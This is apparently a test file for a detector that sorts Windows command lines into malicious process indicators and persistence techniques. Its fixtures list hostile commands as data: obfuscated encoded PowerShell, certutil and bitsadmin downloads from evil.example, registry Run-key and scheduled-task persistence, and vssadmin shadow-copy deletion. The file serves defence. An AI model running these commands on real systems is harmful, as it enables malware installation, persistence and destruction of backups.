import { describe, expect, it } from 'vitest';
import { COMMAND_SEVERITY, classifyCommand } from './command.js';
import { compileCustomRules } from './custom-rules.js';

describe('classifyCommand', () => {
  const indicators: Array<[string, string]> = [
    ['powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'process.powershell-encoded'],
    ['powershell -EncodedCommand ZQBjAGgAbwAgADEA', 'process.powershell-encoded'],
    ['pwsh -ec ZQBjAGgAbwA=', 'process.powershell-encoded'],
    ['p^ower^shell -e ZQBjAGgAbwA=', 'process.powershell-encoded'],
    ['C:\\Windows\\System32\\cmd.exe /c whoami', 'process.cmd-exec'],
    ['certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe', 'process.certutil'],
    ['certutil -decode payload.b64 payload.exe', 'process.certutil'],
    ['bitsadmin /transfer job /download /priority high http://evil.example/a.exe C:\\a.exe', 'process.bitsadmin'],
  ];
  for (const [cmd, rule] of indicators) {
    it(cmd, () => {
      const v = classifyCommand(cmd);
      expect(v.type).toBe('process_indicator');
      expect(v.rule).toBe(rule);
      expect(v.severity).toBe('CRITICAL');
      expect(v.confidence).toBe(0.9);
    });
  }

  const persistence: Array<[string, string]> = [
    ['schtasks /create /sc minute /mo 5 /tn upd /tr C:\\x.exe', 'persistence.schtasks'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\x.exe', 'persistence.run-key'],
    ['reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x /d y', 'persistence.run-key'],
    ['copy evil.exe "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"', 'persistence.autorun'],
  ];
  for (const [cmd, rule] of persistence) {
    it(cmd, () => {
      const v = classifyCommand(cmd);
      expect(v.type).toBe('persistence');
      expect(v.rule).toBe(rule);
      expect(v.severity).toBe('HIGH');
      expect(v.confidence).toBe(0.8);
    });
  }

  it('leaves ordinary command lines alone', () => {
    for (const cmd of ['powershell Get-ChildItem', 'certutil -hashfile a.iso SHA256', 'reg query HKCU\\Software', 'schtasks /query', 'ls -la /tmp', 'cmd.exe', 'bitsadmin /list']) {
      expect(classifyCommand(cmd).type).toBeNull();
    }
  });

  it('exports severities', () => {
    expect(COMMAND_SEVERITY.process_indicator).toEqual({ severity: 'CRITICAL', confidence: 0.9 });
    expect(COMMAND_SEVERITY.persistence).toEqual({ severity: 'HIGH', confidence: 0.8 });
  });

  it('runs custom command rules', () => {
    const rules = compileCustomRules([{ id: 'cmd.vssadmin', class: 'process_indicator', field: 'command', contains: ['vssadmin', 'delete shadows'] }]);
    expect(classifyCommand('vssadmin.exe Delete Shadows /all /quiet', rules).rule).toBe('cmd.vssadmin');
    expect(classifyCommand('vssadmin list shadows', rules).type).toBeNull();
  });
});
